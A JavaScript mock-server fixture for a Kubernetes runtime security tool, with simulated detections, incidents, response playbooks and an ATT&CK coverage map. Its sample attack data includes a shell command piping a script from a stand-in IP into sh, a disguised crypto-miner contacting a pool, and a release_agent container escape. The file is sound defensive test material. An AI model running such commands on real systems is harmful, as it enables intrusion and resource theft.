// Made-up run time for the mock server: sources, sensors, events, detections, incidents, responses, rules and the ATT&CK map.

const CLUSTER = "k8s:00000000-0000-4000-8000-000000000001";
const WEB = `${CLUSTER}/apps/Deployment/shop/web`;
const API = `${CLUSTER}/apps/Deployment/shop/api`;
const NODE = `${CLUSTER}/core/Node/-/worker-1`;
const HEX = "4f0c2d9a1b3e";
const ACCOUNT = `${CLUSTER}/core/ServiceAccount/shop/default`;

const TECHNIQUES = [
  ["T1190", "Exploit Public-Facing Application", ["initial-access"], [["sigma/web-shell", true]], 0],
  [
    "T1078",
    "Valid Accounts",
    ["initial-access", "persistence", "privilege-escalation", "defense-evasion"],
    [["sigma/k8s-new-source", true]],
    1,
  ],
  ["T1609", "Container Administration Command", ["execution"], [["sigma/k8s-exec-into-pod", true]], 2],
  ["T1059", "Command and Scripting Interpreter", ["execution"], [], 3],
  ["T1059.004", "Unix Shell", ["execution"], [["falco/Terminal shell in container", true]], 3],
  ["T1610", "Deploy Container", ["execution", "defense-evasion"], [["sigma/k8s-privileged-pod", true]], 0],
  [
    "T1053.007",
    "Container Orchestration Job",
    ["execution", "persistence", "privilege-escalation"],
    [["sigma/k8s-cronjob", false]],
    0,
  ],
  ["T1525", "Implant Internal Image", ["persistence"], [], 0],
  [
    "T1611",
    "Escape to Host",
    ["privilege-escalation"],
    [["falco/Container escape by release_agent", true]],
    1,
  ],
  ["T1036", "Masquerading", ["defense-evasion"], [["falco/Process with a kernel thread's name", false]], 0],
  ["T1612", "Build Image on Host", ["defense-evasion"], [], 0],
  [
    "T1552.007",
    "Container API",
    ["credential-access"],
    [["falco/Contact the API server from a container", true]],
    1,
  ],
  ["T1110", "Brute Force", ["credential-access"], [["sigma/okta-many-failures", true]], 0],
  ["T1613", "Container and Resource Discovery", ["discovery"], [["sigma/k8s-enumeration", true]], 0],
  ["T1046", "Network Service Discovery", ["discovery"], [["falco/Scanner in container", true]], 0],
  ["T1550.001", "Application Access Token", ["defense-evasion", "lateral-movement"], [], 0],
  ["T1496", "Resource Hijacking", ["impact"], [["falco/Miner pool contacted", true]], 1],
  ["T1499", "Endpoint Denial of Service", ["impact"], [], 0],
];

export function makeRuntime(now) {
  const ago = (minutes) => new Date(now - minutes * 60_000).toISOString();
  const process = (execId, parent, binary, args, minutes, more = {}) => ({
    execId,
    pid: 100 + execId.length,
    binary,
    arguments: args,
    user: "www-data",
    startedAt: (now - minutes * 60_000) * 1_000_000,
    ...(parent ? { parent } : {}),
    ...more,
  });
  const event = (id, minutes, kind, severity, title, body, more = {}) => ({
    id,
    time: ago(minutes),
    source: "nodes",
    origin: "falco",
    kind,
    severity,
    title,
    asset: WEB,
    cluster: CLUSTER.slice(4),
    node: "worker-1",
    namespace: "shop",
    workload: "Deployment/web",
    container: HEX,
    image: `sha256:${"ab".repeat(32)}`,
    principal: null,
    received_at: ago(minutes - 0.02),
    late: false,
    body: {
      kind,
      severity,
      title,
      raw: { output: title, priority: "Warning", hostname: "worker-1" },
      ...body,
    },
    ...more,
  });
  const NGINX = process("nginx", null, "/usr/sbin/nginx", "-g daemon off;", 900);
  const SH = process("sh", NGINX, "/bin/sh", "-c id; curl -s http://192.0.2.7/x.sh | sh", 62);
  const tree = [
    event("tetragon:sh", 62, "process.exec", "none", "/bin/sh", { process: SH }, { origin: "tetragon" }),
    event(
      "tetragon:id",
      62,
      "process.exec",
      "none",
      "/usr/bin/id",
      { process: process("id", SH, "/usr/bin/id", "", 62) },
      { origin: "tetragon" },
    ),
    event(
      "tetragon:curl",
      61.9,
      "process.exec",
      "none",
      "/usr/bin/curl",
      { process: process("curl", SH, "/usr/bin/curl", "-s http://192.0.2.7/x.sh", 61.9) },
      { origin: "tetragon" },
    ),
    event(
      "tetragon:xmrig",
      61,
      "process.exec",
      "none",
      "/tmp/.x/kworker",
      { process: process("xmrig", SH, "/tmp/.x/kworker", "-o pool.example:3333", 61) },
      { origin: "tetragon" },
    ),
    event("tetragon:curl-exit", 61.8, "process.exit", "none", "/usr/bin/curl", {}, { origin: "tetragon" }),
  ];
  const row = (key, parent, { binary, arguments: args, user, pid }, first, events) => ({
    key,
    parent,
    binary,
    arguments: args,
    user,
    pid,
    first,
    events,
    asked: false,
  });
  const [, ID, CURL, XMRIG] = tree.map((each) => each.body.process);
  // The start of the first one was before the hour that is told.
  const processes = [
    row("nginx", null, NGINX, null, []),
    row("sh", "nginx", SH, ago(62), ["tetragon:sh", "falco:b3:01"]),
    row("id", "sh", ID, ago(62), ["tetragon:id"]),
    row("curl", "sh", CURL, ago(61.9), ["tetragon:curl", "tetragon:curl-exit"]),
    row("xmrig", "sh", XMRIG, ago(61), ["tetragon:xmrig", "falco:b3:02"]),
  ];
  const events = [
    event("falco:b3:01", 62, "alert", "high", "Terminal shell in container (user=www-data container=web)", {
      process: SH,
      rule: {
        id: "Terminal shell in container",
        name: "Terminal shell in container",
        techniques: ["T1059.004"],
      },
      container: { id: HEX, name: "web", image: "registry.example.org/shop/web:latest" },
    }),
    event("falco:b3:02", 61, "alert", "critical", "Connection to a miner's pool", {
      process: process("xmrig", SH, "/tmp/.x/kworker", "-o pool.example:3333", 61),
      network: {
        protocol: "tcp",
        sourceIp: "10.0.3.7",
        sourcePort: 51234,
        destinationIp: "192.0.2.9",
        destinationPort: 3333,
        destinationName: "pool.example",
      },
      rule: { id: "Miner pool contacted", name: "Miner pool contacted", techniques: ["T1496"] },
    }),
    event(
      "kubernetes-audit:7c1/ResponseComplete",
      40,
      "api.call",
      "none",
      "create pods/exec shop/api-0",
      {
        actor: {
          kind: "service-account",
          name: "system:serviceaccount:shop:default",
          sourceIps: ["10.0.3.7"],
        },
        api: {
          service: "kubernetes",
          verb: "create",
          resource: "pods",
          subresource: "exec",
          namespace: "shop",
          name: "api-0",
          outcome: "success",
        },
      },
      {
        source: "cluster-audit",
        origin: "kubernetes-audit",
        container: null,
        principal: "system:serviceaccount:shop:default",
        asset: API,
      },
    ),
    event(
      "falco:b3:03",
      35,
      "alert",
      "critical",
      "Write to release_agent: a container escapes to its node",
      {
        file: { path: "/sys/fs/cgroup/rdma/release_agent" },
        rule: {
          id: "Container escape by release_agent",
          name: "Container escape by release_agent",
          techniques: ["T1611"],
        },
      },
      { asset: NODE, late: true },
    ),
    event(
      "falco:b3:04",
      20,
      "sensor.health",
      "low",
      "Falco lost 1204 events on worker-2",
      {},
      { asset: "", container: null },
    ),
    ...tree,
  ];
  const detection = (id, minutes, rule, severity, title, techniques, event, more = {}) => ({
    id,
    rule,
    plugin: rule.startsWith("sensor/") ? "sensor" : `sha256:${"cd".repeat(32)}`,
    title,
    severity,
    asset: WEB,
    key: "workload:shop/Deployment/web",
    first: ago(minutes),
    last: ago(minutes - 1),
    late: false,
    techniques,
    found_at: ago(minutes - 1.1),
    suppressed_by: null,
    evidence: { techniques, field: "process.binary", value: "/bin/sh" },
    subject: events.find((each) => each.id === event)?.body ?? {},
    proof: [event],
    ...more,
  });
  const detections = [
    detection(
      "d-shell",
      62,
      "sensor/falco/Terminal shell in container",
      "high",
      "Terminal shell in container",
      ["T1059.004"],
      "falco:b3:01",
    ),
    detection(
      "d-miner",
      61,
      "sensor/falco/Miner pool contacted",
      "critical",
      "Connection to a miner's pool",
      ["T1496"],
      "falco:b3:02",
    ),
    detection(
      "d-exec",
      40,
      "sigma/k8s-exec-into-pod",
      "medium",
      "A service account executes in a pod",
      ["T1609"],
      "kubernetes-audit:7c1/ResponseComplete",
      { asset: API },
    ),
    detection(
      "d-escape",
      35,
      "sensor/falco/Container escape by release_agent",
      "critical",
      "A container escapes to its node",
      ["T1611"],
      "falco:b3:03",
      { asset: NODE },
    ),
    detection(
      "d-backup",
      300,
      "sigma/k8s-exec-into-pod",
      "medium",
      "A service account executes in a pod",
      ["T1609"],
      "kubernetes-audit:7c1/ResponseComplete",
      { suppressed_by: "suppression:s-1" },
    ),
  ];
  const steps = detections.slice(0, 4).map((each) => ({
    rule: each.rule,
    asset: each.asset,
    title: each.title,
    severity: each.severity,
    first: each.first,
    last: each.last,
    count: each.id === "d-shell" ? 3 : 1,
    detection: each.id,
    techniques: each.techniques,
  }));
  const incident = (id, row, more = {}) => ({
    incident: {
      id,
      title: "Shell in web, a miner, and an escape to worker-1",
      severity: "critical",
      first: ago(62),
      last: ago(34),
      status: "open",
      disposition: null,
      assignee: null,
      assets: [WEB, API, NODE],
      techniques: ["T1059.004", "T1496", "T1609", "T1611"],
      detections: 6,
      steps: 4,
      sources: 2,
      merged_into: null,
      opened_at: ago(61),
      changed_at: ago(34),
      version: 3,
      ...row,
    },
    acknowledged_at: null,
    closed_at: null,
    steps,
    left_out: 0,
    history: [],
    ...more,
  });
  const DIGEST = `sha256:${"9e".repeat(32)}`;
  const run = (id, more) => ({
    id,
    playbook: "isolate-shell",
    incident: "inc-1",
    phase: "asking",
    outcome: null,
    dryRun: false,
    startedBy: "trigger",
    begunAt: ago(30),
    changedAt: ago(29),
    leaseUntil: null,
    approvalsNeeded: 2,
    approvalsGiven: 1,
    decisions: [{ by: "ana", agree: true, at: ago(20) }],
    stopped: null,
    journal: [
      { at: ago(30), what: "Began: the trigger fits the detection “Terminal shell in container”" },
      { at: ago(29), what: "Planned 2 acts" },
      { at: ago(20), what: "ana agreed" },
    ],
    plan: {
      digest: DIGEST,
      plannedAt: ago(29),
      acts: [
        {
          key: "label-1",
          step: "quarantine",
          action: "label",
          class: "reversible",
          target: "Pod shop/web-7d9f4-x2k8p",
          change: "patch",
          fields: [
            { path: ["metadata", "labels", "palisade.dev/quarantine"], after: "true" },
            { path: ["metadata", "labels", "app"], before: "web", after: "web-quarantined" },
          ],
          dryRun: { passes: true, said: "" },
          state: "waiting",
        },
        {
          key: "policy-1",
          step: "isolate",
          action: "network-policy",
          class: "reversible",
          target: "NetworkPolicy shop/palisade-quarantine",
          change: "create",
          fields: [],
          dryRun: { passes: false, said: "networkpolicies is forbidden for palisade-respond in shop" },
          state: "waiting",
        },
      ],
      skipped: [{ step: "ticket", why: "no ticket system is configured" }],
      pods: ["shop/web-7d9f4-x2k8p"],
      podsTotal: 42,
      replicas: [{ target: "Deployment shop/web", before: 3, after: 2 }],
      disruptions: [],
      warnings: ["The Deployment starts another pod with the same image."],
      refusals: [],
    },
    ...more,
  });
  const source = (name, format, more) => ({
    name,
    format,
    cluster: CLUSTER.slice(4),
    created_at: ago(90_000),
    created_by: "bootstrap",
    rotated_at: null,
    disabled: false,
    last_at: ago(1),
    events: 120_431,
    repeated: 12,
    problems: 0,
    late: 0,
    drops: 0,
    last_problem: null,
    ...more,
  });
  return {
    sources: [
      source("nodes", "falco", { drops: 1_204, late: 4 }),
      source("cluster-audit", "kubernetes-audit", {
        events: 8_211_904,
        problems: 3,
        last_problem: "entry 17: `auditID` is missing",
      }),
      source("aws", "eventbridge", { cluster: null, events: 0, last_at: null, disabled: true }),
    ],
    sensors: [
      {
        source: "nodes",
        sensor: "worker-1",
        state: "seeing",
        first_at: ago(9_000),
        last_at: ago(1),
        blind_at: null,
        drops: 0,
        reports: 9_000,
        reason: "",
      },
      {
        source: "nodes",
        sensor: "worker-2",
        state: "blind",
        first_at: ago(9_000),
        last_at: ago(2),
        blind_at: ago(2),
        drops: 1_204,
        reports: 8_995,
        reason: "1204 system calls lost: the buffer was full",
      },
      {
        source: "nodes",
        sensor: "worker-3",
        state: "silent",
        first_at: ago(9_000),
        last_at: ago(200),
        blind_at: null,
        drops: 0,
        reports: 8_701,
        reason: "no event for 190 minutes",
      },
    ],
    events,
    processes,
    detections,
    incidents: [
      incident("inc-1", {}),
      incident(
        "inc-2",
        {
          severity: "medium",
          title: "Many failed sign-ins of ana@example.org",
          assets: [],
          techniques: ["T1110"],
          detections: 1,
          steps: 1,
          sources: 1,
          status: "closed",
          disposition: "false-positive",
          assignee: "ben",
        },
        {
          acknowledged_at: ago(120),
          closed_at: ago(100),
          steps: steps.slice(0, 1),
          history: [
            {
              incident: "inc-2",
              at: ago(120),
              actor: "ben",
              what: { status: "investigating", assignee: "ben" },
            },
            { incident: "inc-2", at: ago(110), actor: "palisade", what: { merged: "inc-3" } },
            {
              incident: "inc-2",
              at: ago(100),
              actor: "ben",
              what: {
                status: "closed",
                disposition: "false-positive",
                note: "A load test.\nIt was announced.",
              },
            },
          ],
        },
      ),
    ],
    graph: {
      nodes: [
        {
          id: `container:${HEX}`,
          kind: "container",
          name: HEX,
          label: HEX,
          asset: null,
          severity: "critical",
        },
        {
          id: API,
          kind: "workload",
          name: "shop/Deployment/api",
          label: "shop/Deployment/api",
          asset: API,
          severity: "medium",
        },
        {
          id: WEB,
          kind: "workload",
          name: "shop/Deployment/web",
          label: "shop/Deployment/web",
          asset: WEB,
          severity: "critical",
        },
        { id: NODE, kind: "node", name: "worker-1", label: "worker-1", asset: NODE, severity: "critical" },
        {
          id: ACCOUNT,
          kind: "principal",
          name: "system:serviceaccount:shop:default",
          label: "system:serviceaccount:shop:default",
          asset: ACCOUNT,
          severity: "medium",
        },
      ],
      edges: [
        {
          from: `container:${HEX}`,
          to: NODE,
          edge: "escaped-to",
          why: "it wrote to release_agent",
          proof: ["d3"],
        },
        {
          from: `container:${HEX}`,
          to: ACCOUNT,
          edge: "token-used",
          why: "its service account called from its address",
          proof: ["d4"],
        },
        { from: ACCOUNT, to: API, edge: "acts", why: "A service account executes in a pod", proof: ["d4"] },
        {
          from: WEB,
          to: `container:${HEX}`,
          edge: "runs",
          why: "The event names the pod's owner.",
          proof: ["d1"],
        },
      ],
      cut: false,
    },
    rules: [
      {
        rule: "sensor/falco/Terminal shell in container",
        title: "Terminal shell in container",
        severity: "high",
        detections: 31,
        suppressed: 2,
        true_positives: 6,
        benign: 1,
        false_positives: 1,
        precision: 0.75,
        last: ago(62),
      },
      {
        rule: "sigma/k8s-exec-into-pod",
        title: "A service account executes in a pod",
        severity: "medium",
        detections: 412,
        suppressed: 380,
        true_positives: 1,
        benign: 12,
        false_positives: 4,
        precision: 0.0588,
        last: ago(40),
      },
      {
        rule: "sensor/falco/Miner pool contacted",
        title: "Connection to a miner's pool",
        severity: "critical",
        detections: 1,
        suppressed: 0,
        true_positives: 0,
        benign: 0,
        false_positives: 0,
        precision: null,
        last: ago(61),
      },
    ],
    backtests: [
      {
        id: "b-1",
        ...{ files: ["shell-in-the-shop.yml"], instead: false, asked_by: "bootstrap", state: "finished" },
        ...{
          from: ago(7 * 24 * 60),
          to: ago(60),
          submitted_at: ago(60),
          started_at: ago(60),
          finished_at: ago(59),
        },
        events: 184_220,
        rules: [{ name: "shell-in-the-shop.yml", text: "title: Shell in the shop\nlevel: high\n" }],
        difference: {
          events: 184_220,
          cut: false,
          before: { detections: 412, incidents: 31, gaps: 0, seconds: 2.1 },
          after: { detections: 415, incidents: 33, gaps: 0, seconds: 2.2 },
          rules: { "palisade.sigma/shell-in-the-shop": { before: 0, after: 3, added: 3, removed: 0 } },
          added: [1, 2, 3].map((number) => ({
            rule: "palisade.sigma/shell-in-the-shop",
            title: "Shell in the shop",
            severity: "high",
            asset: "k8s:c/pods/shop/web-1",
            at: ago(100 * number),
            events: [`falco:b3:0${number}`],
          })),
          removed: [],
        },
      },
    ],
    suppressions: [
      {
        id: "s-1",
        rule: "sigma/k8s-exec-into-pod",
        asset: `${CLUSTER}/apps/Deployment/ops/*`,
        filter: "actor.name:system:serviceaccount:ops:backup",
        reason: "The backup executes in the database's pod each night.",
        owner: "ops",
        created_at: ago(50_000),
        expires_at: ago(-40_000),
        ended_at: null,
        active: true,
        hits: 380,
        last_hit: ago(300),
      },
      {
        id: "s-2",
        rule: "*",
        asset: `${CLUSTER}/apps/Deployment/lab/*`,
        filter: null,
        reason: "A pentest.",
        owner: "red team",
        created_at: ago(90_000),
        expires_at: ago(3_000),
        ended_at: null,
        active: false,
        hits: 77,
        last_hit: ago(3_100),
      },
    ],
    runs: [
      run("run-1", {}),
      run("run-2", {
        playbook: "stop-miner",
        phase: "leased",
        leaseUntil: ago(-80),
        approvalsNeeded: 1,
        startedBy: "ben",
      }),
      run("run-3", {
        playbook: "evidence-only",
        phase: "over",
        outcome: "succeeded",
        approvalsNeeded: 0,
        approvalsGiven: 0,
        dryRun: true,
        decisions: [],
      }),
    ],
    playbooks: [
      {
        name: "isolate-shell",
        digest: DIGEST,
        description:
          "A shell runs in a container: it is cut off from the network, and kept for people to look at.",
        trigger: "rule.techniques:T1059.004 and pod.namespace:shop",
        enabled: true,
        origin: "built-in",
        steps: [
          { id: "evidence", action: "collect-evidence", class: "observing" },
          { id: "quarantine", action: "label", class: "reversible" },
          { id: "isolate", action: "network-policy", class: "reversible" },
        ],
        approvals: 2,
        leaseSeconds: 14_400,
      },
      {
        name: "drain-node",
        digest: DIGEST,
        description: "A node is taken over: it is emptied.",
        trigger: "",
        enabled: false,
        origin: "built-in",
        steps: [
          { id: "cordon", action: "cordon", class: "reversible" },
          { id: "drain", action: "drain", class: "destructive" },
        ],
        approvals: 2,
      },
    ],
    ledger: [
      {
        sequence: 0,
        at: ago(900),
        what: "applied",
        action: "label",
        by: ["ben"],
        detail: "",
        incident: "inc-2",
        run: "run-2",
        target: "Pod shop/web-1",
        hash: DIGEST,
      },
      {
        sequence: 1,
        at: ago(29),
        what: "planned",
        action: "",
        by: [],
        detail: "2 acts",
        incident: "inc-1",
        run: "run-1",
        target: "",
        hash: DIGEST,
      },
      {
        sequence: 2,
        at: ago(20),
        what: "approved",
        action: "",
        by: ["ana"],
        detail: "plan 9e9e…",
        incident: "inc-1",
        run: "run-1",
        target: "",
        hash: DIGEST,
      },
    ],
    stops: [],
  };
}

const RUNTIME_LISTS = ["events", "detections"];
const worse = ["critical", "high", "medium", "low", "negligible", "none", "unknown"];
const FORMATS = [
  "falco",
  "falcosidekick",
  "kubernetes-audit",
  "tetragon",
  "kubearmor",
  "cloudtrail",
  "eventbridge",
  "guardduty",
  "gcp-audit",
  "azure-activity",
  "otlp",
  "ocsf",
  "okta",
  "github",
];

/** What each list can be asked; everything else is refused, as the server does. */
const PAGED = ["limit", "cursor"];
const TAKEN = {
  "/incidents": [
    ...["status", "severity_min", "asset", "technique", "assignee", "q", "from", "to", "merged"],
    ...PAGED,
  ],
  "/runtime/events": [
    ...["source", "origin", "kind", "severity_min", "namespace", "workload", "asset", "container", "image"],
    ...["principal", "q", "from", "to"],
    ...PAGED,
  ],
  "/runtime/detections": [
    ...["rule", "severity_min", "asset", "key", "technique", "suppressed", "late", "q", "from", "to"],
    ...PAGED,
  ],
  "/runtime/rules": ["days"],
  "/backtests": PAGED,
  "/responses": ["open", "incident", "playbook", "limit"],
  "/responses/ledger": ["run", ...PAGED],
  "/attack-map": ["platform", "days"],
  "/attack-map/navigator": ["platform"],
};
const GIVEN = {
  "POST /runtime/sources": ["name", "format", "cluster"],
  "POST /runtime/suppressions": ["rule", "asset", "filter", "reason", "owner", "expires_at"],
  "POST /backtests": ["rules", "instead", "candidate", "from", "to"],
  "POST /responses": ["playbook", "incident", "dryRun"],
  "PUT /kill-switch": ["playbook", "why"],
};
const CHANGES = ["status", "disposition", "assignee", "note", "version"];

/** Why what was asked is refused before anything is done; nothing where it is not. */
function refused({ method, path, query, body }) {
  const known = TAKEN[path] ?? [];
  const odd = [...query.keys()].find((key) => !known.includes(key));
  if (odd) return [400, "invalid-parameter", "A parameter is not usable", `There is no parameter ${odd}.`];
  const taken = GIVEN[`${method} ${path}`] ?? (method === "PATCH" ? CHANGES : null);
  const extra = taken && Object.keys(body).find((key) => !taken.includes(key));
  return extra ? [422, "invalid-body", "The body is not usable", `There is no member ${extra}.`] : null;
}

function fits(row, [key, value]) {
  switch (key) {
    case "limit":
    case "cursor":
    case "days":
    case "merged":
      return true;
    case "from":
      return Date.parse(row.last ?? row.time) >= Date.parse(value);
    case "to":
      return Date.parse(row.first ?? row.time) < Date.parse(value);
    case "severity_min":
      return worse.indexOf(row.severity) <= worse.indexOf(value);
    case "open":
      return String(row.phase !== "over") === value;
    case "q":
      return JSON.stringify(row).toLowerCase().includes(value.toLowerCase());
    case "technique":
      return row.techniques.includes(value);
    case "suppressed":
      return String(row.suppressed_by !== null) === value;
    case "asset":
      return (row.assets ?? [row.asset]).includes(value);
    case "assignee":
      return (row.assignee ?? "-") === value;
    case "status":
      return value.split(",").includes(row.status);
    default:
      return String(row[key]) === value;
  }
}
const filtered = (rows, query) => rows.filter((row) => [...query].every((asked) => fits(row, asked)));

/** Rows of lists, without what only the one shows. */
const eventRow = ({ body, ...row }) => row;
const detectionRow = ({ proof, ...row }) => row;

const OURS = /^\/(runtime|incidents|responses|playbooks|kill-switch|attack-map|backtests)(\/|$)/;

/** A list of backtests has neither the rules nor what came of them. */
const backtestRow = ({ rules, difference, ...row }) => row;

function answerBacktests(data, { method, query, body, page, id, ending }) {
  const found = data.backtests.find((each) => each.id === id);
  if (method === "POST" && !id) {
    const made = {
      id: `b-${data.backtests.length + 1}`,
      ...{ files: body.rules.map(({ name }) => name), instead: body.instead, rules: body.rules },
      ...{ from: body.from, to: new Date().toISOString(), asked_by: "bootstrap", state: "queued", events: 0 },
      submitted_at: new Date().toISOString(),
    };
    data.backtests.unshift(made);
    return { status: 202, body: backtestRow(made) };
  }
  if (!id) return { status: 200, body: page(data.backtests.map(backtestRow), query, (each) => each.id) };
  if (!found) return { refusal: [404, "backtest-not-found", "There is no such backtest"] };
  if (ending) Object.assign(found, { state: "cancelled", finished_at: new Date().toISOString() });
  return { status: 200, body: ending ? {} : found };
}

/** Answers what it knows; nothing for another path. */
export function answerRuntime(data, { method, path, query, body, page }) {
  const ok = (answer, status = 200) => ({ status, body: answer });
  const gone = { refusal: [404, "not-found", "There is no such thing"] };
  if (!OURS.test(path)) return null;
  const refusal = refused({ method, path, query, body });
  if (refusal) return { refusal };
  const [, first, second, third, fourth] = path.split("/").map(decodeURIComponent);
  if (first === "backtests") {
    return answerBacktests(data, { method, query, body, page, id: second, ending: third === "cancel" });
  }
  if (first === "runtime" && second === "sources") {
    const found = data.sources.find((each) => each.name === third);
    const token = `pse_${"k3y".repeat(12)}`;
    if (method === "POST" && !third) {
      if (data.sources.some((each) => each.name === body.name))
        return {
          refusal: [409, "source-name-taken", "There is a source of that name", "", "Take another name."],
        };
      const made = {
        cluster: null,
        ...body,
        created_at: new Date().toISOString(),
        created_by: "bootstrap",
        rotated_at: null,
        disabled: false,
        last_at: null,
        last_problem: null,
        events: 0,
        repeated: 0,
        problems: 0,
        late: 0,
        drops: 0,
      };
      data.sources.push(made);
      return ok({ source: made, token }, 201);
    }
    if (!third) return ok({ items: data.sources, formats: FORMATS });
    if (!found) return gone;
    if (fourth === "rotate") return ok({ source: found, token });
    if (fourth === "enable" || fourth === "disable") found.disabled = fourth === "disable";
    if (method === "DELETE") {
      data.sources.splice(data.sources.indexOf(found), 1);
      return { status: 204 };
    }
    return ok(found);
  }
  if (path === "/runtime/sensors") {
    const of = (state) => data.sensors.filter((each) => each.state === state).length;
    return ok({ items: data.sensors, seeing: of("seeing"), blind: of("blind"), silent: of("silent") });
  }
  if (path === "/runtime/rules") return ok({ items: data.rules, days: Number(query.get("days") ?? 30) });
  if (first === "runtime" && second === "suppressions") {
    if (method === "POST" && !third) {
      const made = {
        id: `s-${data.suppressions.length + 1}`,
        asset: "*",
        filter: null,
        ...body,
        created_at: new Date().toISOString(),
        ended_at: null,
        active: true,
        hits: 0,
        last_hit: null,
      };
      data.suppressions.unshift(made);
      return ok(made, 201);
    }
    const found = data.suppressions.find((each) => each.id === third);
    if (found) Object.assign(found, { active: false, ended_at: found.ended_at ?? new Date().toISOString() });
    return found ? ok(found) : ok({ items: data.suppressions });
  }
  if (first === "runtime" && RUNTIME_LISTS.includes(second)) {
    const row = second === "events" ? eventRow : detectionRow;
    if (!third) return ok(page(filtered(data[second].map(row), query), query, (each) => each.id));
    const found = data[second].find((each) => each.id === third);
    if (!found) return gone;
    const of = ({ time }, minutes) => new Date(Date.parse(time) + minutes * 60_000).toISOString();
    if (fourth === "process-tree")
      return ok({
        container: found.container,
        from: of(found, -60),
        to: of(found, 10),
        processes: found.container
          ? data.processes.map((each) => ({ ...each, asked: each.key === found.body.process?.execId }))
          : [],
        cut: false,
      });
    if (second === "events")
      return ok({
        event: row(found),
        body: found.body,
        detections: data.detections.filter((each) => each.proof.includes(third)).map((each) => each.id),
      });
    return ok({
      detection: row(found),
      events: data.events.filter((each) => found.proof.includes(each.id)).map(eventRow),
    });
  }
  if (first === "incidents") {
    const rows = data.incidents.map((each) => each.incident);
    if (!second) return ok(page(filtered(rows, query), query, (row) => row.id));
    const found = data.incidents.find((each) => each.incident.id === second);
    if (!found) return gone;
    if (third === "graph") return ok(second === "inc-1" ? data.graph : { nodes: [], edges: [], cut: false });
    if (third === "timeline")
      return ok({
        items: found.steps.map((step) => ({
          step,
          detections: data.detections
            .filter((each) => each.rule === step.rule && each.asset === step.asset && !each.suppressed_by)
            .map(detectionRow),
        })),
        left_out: found.left_out,
      });
    if (method === "PATCH") {
      const { version, ...what } = body;
      const { incident } = found;
      if (version !== undefined && version !== incident.version)
        return {
          refusal: [409, "version-stale", "It was changed meanwhile", "", "Read it again, then decide."],
        };
      const { note, ...rest } = what;
      Object.assign(incident, rest, { version: incident.version + 1 });
      found.history = [
        ...found.history,
        { incident: incident.id, at: new Date().toISOString(), actor: "bootstrap", what },
      ];
    }
    return ok(found);
  }
  if (path === "/playbooks") return ok({ items: data.playbooks });
  if (path === "/kill-switch") {
    if (method === "PUT") {
      data.stops = data.stops.filter((each) => each.playbook !== body.playbook);
      if (body.why)
        data.stops.push({
          playbook: body.playbook,
          why: body.why,
          by: "bootstrap",
          at: new Date().toISOString(),
        });
      return ok({});
    }
    return ok({ items: data.stops });
  }
  if (path === "/responses/ledger")
    return ok(page(filtered(data.ledger, query), query, (row) => String(row.sequence)));
  if (path === "/responses/ledger/verify")
    return ok({ records: data.ledger.length, head: `sha256:${"9e".repeat(32)}`, broken: null });
  if (first === "responses") {
    if (!second && method === "POST")
      return ok(
        { ...data.runs[0], ...body, id: body.dryRun ? "" : "run-1", phase: body.dryRun ? "over" : "asking" },
        201,
      );
    if (!second) return ok({ items: filtered(data.runs, query).slice(0, Number(query.get("limit") ?? 50)) });
    const found = data.runs.find((each) => each.id === second);
    if (!found) return gone;
    if (third === "decide") {
      found.decisions = [
        ...found.decisions,
        { by: "bootstrap", agree: body.agree, at: new Date().toISOString() },
      ];
      if (body.agree) found.approvalsGiven += 1;
    }
    if (third === "cancel") Object.assign(found, { phase: "over", outcome: "denied", stopped: body.why });
    return ok(found);
  }
  if (path === "/attack-map/navigator")
    return ok({ name: "Palisade", versions: { layer: "4.5" }, techniques: [] });
  if (path === "/attack-map") {
    const tested = TECHNIQUES.filter(([, , , rules]) => rules.some(([, proved]) => proved)).map(([id]) => id);
    const through = (id) => tested.filter((each) => each.startsWith(`${id}.`));
    const techniques = TECHNIQUES.map(([id, name, tactics, rules, detections]) => ({
      id,
      name,
      tactics,
      platforms: ["containers"],
      url: `https://attack.mitre.org/techniques/${id.replace(".", "/")}`,
      rules: rules.map(([rule]) => rule),
      proofs: rules.filter(([, proved]) => proved).map(([rule]) => rule),
      tested: tested.includes(id),
      tests: rules.length * 2,
      sources: ["falco"],
      through: through(id),
      detections: data.detections.length > 0 ? detections : 0,
    }));
    const covered = techniques.filter((each) => each.tested || each.through.length > 0).length;
    return ok({
      attack: "18.1",
      days: Number(query.get("days") ?? 30),
      platforms: [
        { platform: "containers", techniques: techniques.length, tested: tested.length, covered },
        { platform: "iaas", techniques: 0, tested: 0, covered: 0 },
      ],
      techniques,
    });
  }
  return null;
}
